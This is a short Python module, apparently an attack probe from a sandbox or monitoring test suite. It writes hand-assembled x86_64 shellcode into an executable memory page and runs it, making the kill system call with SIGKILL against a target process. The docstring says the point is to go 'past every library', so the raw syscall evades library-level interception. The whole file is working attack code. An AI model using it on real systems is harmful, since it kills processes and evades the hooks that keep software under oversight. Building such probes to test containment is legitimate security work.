"""Write machine code into memory and jump there: it makes the system calls itself, past every library."""

import ctypes
import mmap
import os
import struct


def attack(target):
    if os.uname().machine != "x86_64":
        return []
    # mov edi, victim; mov esi, SIGKILL; mov eax, 62 (kill); syscall; ret
    code = b"\xbf" + struct.pack("I", target["victim"]) + b"\xbe\x09\0\0\0" + b"\xb8\x3e\0\0\0" + b"\x0f\x05\xc3"
    return ["killed"] if run(code) == 0 else []


def run(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
